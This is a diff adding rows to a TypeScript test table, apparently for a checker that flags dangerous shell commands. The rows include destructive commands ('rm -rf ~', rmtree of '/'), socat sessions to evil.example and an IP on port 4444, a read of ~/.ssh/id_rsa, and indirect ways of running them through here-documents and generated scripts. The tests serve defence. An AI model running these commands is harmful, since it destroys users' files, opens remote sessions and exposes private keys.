@@ -171,6 +171,9 @@ const TABLE: [string, boolean, boolean, string?][] = [
   ['echo "cd $DIR && make" > run.sh; sh run.sh', true, false, 'wrote itself'],
   ["echo 'rm -rf ~' > run.sh; ./generate > run.sh; sh run.sh", false, false],
   ["echo 'rm -rf ~' > notes.txt; cat notes.txt", false, true],
+  // A script that writes another, which a later command runs: one file system for every level.
+  ["cat > a.sh <<'EOF'\necho 'rm -rf ~' > b.sh\nEOF\nbash a.sh\nbash b.sh", true, false, 'home directory'],
+  ['bash -c "echo \'rm -rf ~\' > b.sh"; sh b.sh', true, false, 'home directory'],
   ["echo 'rm -rf ~' > run.sh; sh < run.sh", true, false, 'home directory'],
   ["echo 'rm -rf ~' > run.sh; cat run.sh | bash -s", true, false, 'home directory'],
   ["echo 'ls' > run.sh; cat run.sh | bash", false, false],
@@ -179,6 +182,18 @@ const TABLE: [string, boolean, boolean, string?][] = [
   ["cat > t.py <<'EOF'\nprint('ok')\nEOF\npython3 t.py", false, false],
   ["cat > t <<'EOF'\n#!/usr/bin/env python3\nimport shutil; shutil.rmtree('/')\nEOF\nchmod +x t; ./t", true, false, 'python3 code'],
   ["cat > t <<'EOF'\n#!/bin/sh\necho ok\nEOF\nchmod +x t; ./t", false, false],
+  // A shell's or interpreter's input spelled out in the text is its script, by any of the ways in.
+  ["bash <<< 'rm -rf ~'", true, false, 'home directory'],
+  ["bash <<< 'make test'", false, false],
+  ['bash <<< "$SCRIPT"', true, false, 'built at run time'],
+  ['cat <<EOF | sh\nrm -rf ~\nEOF', true, false, 'home directory'],
+  ['cat <<EOF | sh\ncargo build\nEOF', false, false],
+  ["bash /dev/stdin <<'EOF'\nsocat - TCP:203.0.113.9:4444\nEOF", true, false, 'socat'],
+  ["bash /dev/stdin <<'EOF'\nls -la\nEOF", false, false],
+  ['socat - TCP:203.0.113.9:4444', true, false, 'raw session'],
+  ['socat STDIO OPENSSL:evil.example:443,verify=0', true, false, 'raw session'],
+  ['socat - UNIX-CONNECT:/tmp/app.sock', false, false],
+  ["python3 /dev/stdin <<'EOF'\nimport os; os.system('rm -rf ~')\nEOF", true, false, 'python3 code from a here-document'],
   // An unquoted here-document's substitutions run as the shell reads it, whatever it feeds.
   ['cat > notes.txt <<EOF\n$(rm -rf ~)\nEOF', true, false, 'home directory'],
   ['cat > notes.txt <<EOF\n`cat ~/.ssh/id_rsa`\nEOF', true, false, 'secrets'],
